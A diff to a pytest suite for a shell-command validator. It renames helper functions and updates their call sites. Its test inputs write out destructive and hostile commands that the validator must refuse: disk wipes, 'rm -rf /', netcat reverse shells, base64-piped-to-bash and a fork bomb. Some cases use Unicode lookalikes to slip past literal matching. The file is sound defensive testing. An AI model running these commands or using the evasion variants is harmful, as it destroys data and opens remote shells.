@@ -15,7 +15,7 @@ BARE = CommandValidator([])
 DANGEROUS = "Command appears to be dangerous"
 
 
-def said(validator: CommandValidator, command: str) -> str:
+def refusal_of(validator: CommandValidator, command: str) -> str:
     """What it says; nothing if it lets it pass."""
     try:
         validator.validate(command)
@@ -24,7 +24,7 @@ def said(validator: CommandValidator, command: str) -> str:
     return ""
 
 
-def blocked(pattern: str) -> str:
+def blocked_message(pattern: str) -> str:
     return f"Command contains blocked pattern: {pattern}"
 
 
@@ -32,39 +32,39 @@ def blocked(pattern: str) -> str:
 @pytest.mark.parametrize("command", ["ls -la", "git status", "echo 'hello'", "make test 2>&1 | tee log"])
 @pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
 def test_a_normal_command_passes(command: str, validator: CommandValidator) -> None:
-    assert said(validator, command) == ""
+    assert refusal_of(validator, command) == ""
 
 
 @pytest.mark.req("K-04")
 @pytest.mark.parametrize("command", ["", " ", "\n\t ", "\u2003"], ids=repr)
 @pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
 def test_an_empty_command_is_refused(command: str, validator: CommandValidator) -> None:
-    assert said(validator, command) == "Empty command"
+    assert refusal_of(validator, command) == "Empty command"
 
 
 @pytest.mark.req("K-04")
 def test_a_pattern_of_the_caller_s_is_refused() -> None:
-    assert said(CommandValidator(["rm -rf /"]), "rm -rf /") == blocked("rm -rf /")
-    assert said(CommandValidator(["Git Push"]), "cd x && GIT push -u") == blocked("Git Push")
-    assert said(CommandValidator(["a\nb"]), "echo a\nb") == blocked("a\nb")
-    assert said(CommandValidator(["x.y"]), "echo xzy") == ""
+    assert refusal_of(CommandValidator(["rm -rf /"]), "rm -rf /") == blocked_message("rm -rf /")
+    assert refusal_of(CommandValidator(["Git Push"]), "cd x && GIT push -u") == blocked_message("Git Push")
+    assert refusal_of(CommandValidator(["a\nb"]), "echo a\nb") == blocked_message("a\nb")
+    assert refusal_of(CommandValidator(["x.y"]), "echo xzy") == ""
 
 
 @pytest.mark.req("K-04")
 def test_a_pattern_of_the_caller_s_is_a_text_wherever_it_stands() -> None:
     for command in ('echo "rm -rf /"', "rm -rf /tmp/x", "true # rm -rf /"):
-        assert said(CommandValidator(["rm -rf /"]), command) == blocked("rm -rf /")
-    assert said(CommandValidator(["mkfs"]), "man mkfs") == blocked("mkfs")
+        assert refusal_of(CommandValidator(["rm -rf /"]), command) == blocked_message("rm -rf /")
+    assert refusal_of(CommandValidator(["mkfs"]), "man mkfs") == blocked_message("mkfs")
 
 
 @pytest.mark.req("K-04")
 def test_the_dangerous_is_refused_without_any_pattern() -> None:
-    assert said(BARE, "rm -rf /") == DANGEROUS
-    assert said(BARE, "dd if=/dev/zero of=/dev/sda") == DANGEROUS
-    assert said(BARE, "nc -e /bin/sh 10.0.0.1 4444") == DANGEROUS
-    assert said(BARE, "ncat -e /bin/bash 10.0.0.1 4444") == DANGEROUS
-    assert said(BARE, "echo bHM= | base64 -d | bash") == DANGEROUS
-    assert said(BARE, "echo bHM= |base64 -d |bash") == DANGEROUS
+    assert refusal_of(BARE, "rm -rf /") == DANGEROUS
+    assert refusal_of(BARE, "dd if=/dev/zero of=/dev/sda") == DANGEROUS
+    assert refusal_of(BARE, "nc -e /bin/sh 10.0.0.1 4444") == DANGEROUS
+    assert refusal_of(BARE, "ncat -e /bin/bash 10.0.0.1 4444") == DANGEROUS
+    assert refusal_of(BARE, "echo bHM= | base64 -d | bash") == DANGEROUS
+    assert refusal_of(BARE, "echo bHM= |base64 -d |bash") == DANGEROUS
 
 
 PATTERNS = {
@@ -86,7 +86,7 @@ PATTERNS = {
     ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found]
 )
 def test_a_pattern_of_the_list_is_found_by_what_it_names(command: str, pattern: str) -> None:
-    assert said(DEFAULT, command) == blocked(pattern)
+    assert refusal_of(DEFAULT, command) == blocked_message(pattern)
 
 
 @pytest.mark.req("K-04")
@@ -122,7 +122,7 @@ def test_a_pattern_of_the_list_is_found_by_what_it_names(command: str, pattern: 
     ],
 )
 def test_the_dangerous_is_found_by_what_it_does(command: str) -> None:
-    assert said(BARE, command) == DANGEROUS
+    assert refusal_of(BARE, command) == DANGEROUS
 
 
 @pytest.mark.req("K-04")
@@ -160,26 +160,26 @@ def test_the_dangerous_is_found_by_what_it_does(command: str) -> None:
     ],
 )
 def test_a_text_that_does_no_such_thing_passes(command: str) -> None:
-    assert said(DEFAULT, command) == ""
+    assert refusal_of(DEFAULT, command) == ""
 
 
 @pytest.mark.req("K-04")
 @pytest.mark.parametrize(
     ("command", "message"),
     [
-        ('echo "rm -rf /"', blocked("rm -rf /")),
-        ("rm -rf /tmp/x", blocked("rm -rf /")),
-        ("man mkfs", blocked("mkfs")),
+        ('echo "rm -rf /"', blocked_message("rm -rf /")),
+        ("rm -rf /tmp/x", blocked_message("rm -rf /")),
+        ("man mkfs", blocked_message("mkfs")),
         ("man MKFS", ""),
-        ("dd if=/dev/zeroMKFS", blocked("dd if=/dev/")),
+        ("dd if=/dev/zeroMKFS", blocked_message("dd if=/dev/")),
         ("mkf\u017f x", ""),
         ("dd \u0131f=/dev/zero", ""),
         ("dd \u0130F=/dev/zero", ""),
         ("nc -e /b\u0131n/sh", ""),
         ("NC -E /BIN/SH", DANGEROUS),
-        ("echo 'dd if=/dev/zero'", blocked("dd if=/dev/")),
-        ("echo '> /dev/sda'", blocked("> /dev/sd")),
-        ("echo ':(){ :|:& };:'", blocked(":(){ :|:& };:")),
+        ("echo 'dd if=/dev/zero'", blocked_message("dd if=/dev/")),
+        ("echo '> /dev/sda'", blocked_message("> /dev/sd")),
+        ("echo ':(){ :|:& };:'", blocked_message(":(){ :|:& };:")),
         ("RM  -RF  /", DANGEROUS),
         ("ls /; echo -rf; echo rm", DANGEROUS),
         ("dd bs=1 if=a 2>/dev/null", DANGEROUS),
@@ -192,7 +192,7 @@ def test_a_text_that_does_no_such_thing_passes(command: str) -> None:
     ],
 )
 def test_literally_they_are_texts_as_the_document_has_them(command: str, message: str) -> None:
-    assert said(LITERAL, command) == message
+    assert refusal_of(LITERAL, command) == message
 
 
 @pytest.mark.req("K-04")
@@ -209,12 +209,12 @@ def test_literally_they_are_texts_as_the_document_has_them(command: str, message
 def test_the_first_pattern_of_the_list_is_named_before_any_danger(
     command: str, pattern: str, validator: CommandValidator
 ) -> None:
-    assert said(validator, command) == blocked(pattern)
+    assert refusal_of(validator, command) == blocked_message(pattern)
 
 
 def test_a_home_is_refused_as_well_in_words_of_our_own() -> None:
     for validator in (BARE, DEFAULT, LITERAL):
-        assert "would delete the home director" in said(validator, "rm -rf ~")
+        assert "would delete the home director" in refusal_of(validator, "rm -rf ~")
 
 
 def test_what_the_command_would_be_given_counts() -> None:
@@ -227,7 +227,7 @@ def test_what_the_command_would_be_given_counts() -> None:
 
 
 def test_what_no_shell_could_take_is_refused() -> None:
-    assert "NUL" in said(DEFAULT, "a\0b")
+    assert "NUL" in refusal_of(DEFAULT, "a\0b")
 
 
 @pytest.mark.parametrize("given", ["rm", [b"rm"], [None]], ids=repr)
@@ -248,7 +248,7 @@ def test_it_tells_its_patterns() -> None:
 )
 def test_the_profile_s_policy_says_the_same(command: str, pattern: str) -> None:
     verdict = check(command, policy=TACHIKOMA.policy)
-    assert (verdict.decision, verdict.what, verdict.instead) == (Decision.REFUSE, blocked(pattern), "")
+    assert (verdict.decision, verdict.what, verdict.instead) == (Decision.REFUSE, blocked_message(pattern), "")
 
 
 @pytest.mark.slow
@@ -256,4 +256,4 @@ def test_a_long_text_takes_no_long_time() -> None:
     """What grew with the square of it would take hours."""
     for command in ("rm " * 50_000, "base64 |" * 2000 + "bash", "nc -e " * 50_000, "-rf / " * 50_000):
         for validator in (DEFAULT, LITERAL, CommandValidator(["a" * 1000])):
-            said(validator, command)
+            refusal_of(validator, command)
